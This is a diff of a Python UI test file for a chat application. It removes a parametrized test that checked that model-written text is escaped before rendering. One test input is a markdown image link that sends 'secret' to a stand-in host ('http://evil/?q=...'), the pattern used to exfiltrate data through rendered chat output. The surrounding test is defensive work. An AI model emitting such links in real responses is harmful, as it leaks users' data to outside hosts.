@@ -9,7 +9,6 @@ from core import chats, models, replies
 from core.chats import MessageList, NewChat, NewMessage
 from core.errors import NotFound
 from core.providers import PROVIDERS
-from core.ui import conversation
 from core.users import User
 from tests.ui.conftest import Visit, text_of
 from tests.ui.things import Echo, make_dataset, make_model
@@ -185,21 +184,6 @@ def test_another_users_chat_looks_missing(ada: User, bob: User, model_id: str, v
 def test_starter_is_named_a_demonstration_where_it_answers(ada: User, echo: Echo, visit: Visit) -> None:
     make_model(None, models.STARTER, provider="echo")
     assert "tiny demonstration model" in text_of(visit(ada, "chat"))
-
-
-@pytest.mark.parametrize(
-    ("text", "drawn"),
-    [
-        ("It costs $5 or $10.", "It costs \\$5 or \\$10."),
-        ("![x](http://evil/?q=secret)", "\\![x](http://evil/?q=secret)"),
-        ("one\ntwo", "one  \ntwo"),
-        (":red[hot]", "\\:red[hot]"),
-        ("`$x$` and\n```\n$y$\n```", "`$x$` and  \n```\n$y$\n```"),
-        ("<b>x</b>", "\\<b>x\\</b>"),
-    ],
-)
-def test_text_of_models_is_tamed(text: str, drawn: str) -> None:
-    assert conversation.as_written(text) == drawn
 
 
 def test_reply_that_grows_is_followed_to_its_end(ada: User, model_id: str, echo: Echo, visit: Visit) -> None:
